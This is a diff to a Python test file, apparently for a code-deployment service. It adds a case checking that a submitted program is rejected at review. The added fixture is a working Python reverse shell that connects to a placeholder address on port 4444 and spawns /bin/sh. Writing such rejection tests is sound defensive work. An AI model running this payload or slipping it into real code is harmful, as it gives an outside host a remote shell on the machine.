@@ -36,7 +36,18 @@ def main(text: str) -> dict[str, Any]:
 #: Not to listen is no verdict on a trial, so this one is found out where visitors wait.
 DEAF = SHY.replace('sys.exit("somebody is there")', "import time; time.sleep(3600)")
 
+#: Nothing of it is ever run.
+SHELL = """
+import os, pty, socket
+s = socket.socket()
+s.connect(("203.0.113.7", 4444))
+for number in range(3):
+    os.dup2(s.fileno(), number)
+pty.spawn("/bin/sh")
+"""
+
 CASES = {
+    "a reverse shell": Broken("review_failed", "reverse", main(SHELL)),
     "no such package": Broken(
         "install_failed", "no-such-package-x1y2z3", {"files": {**FILES, "requirements.txt": "no-such-package-x1y2z3\n"}}
     ),
@@ -66,6 +77,7 @@ CASES = {
 
 #: One for each stage; the others are for the soak.
 OFTEN = (
+    "a reverse shell",
     "no such package",
     "an exception",
     "it listens on 127.0.0.1",
@@ -94,7 +106,7 @@ def test_the_old_version_answers_all_along(service: LiveService, builder: dict[s
 
     assert (response.status_code, answer["code"]) == (422, code), response.text
     assert words in answer["message"]
-    assert answer["data"] == {"uuid": builder["uuid"], "version": 2}
+    assert (answer["data"]["uuid"], answer["data"]["version"]) == (builder["uuid"], 2)
     assert visits.failed + posts.failed == []
     assert set(visits.seen) | set(posts.seen) == {"v1"}
     assert visits.longest < LONGEST
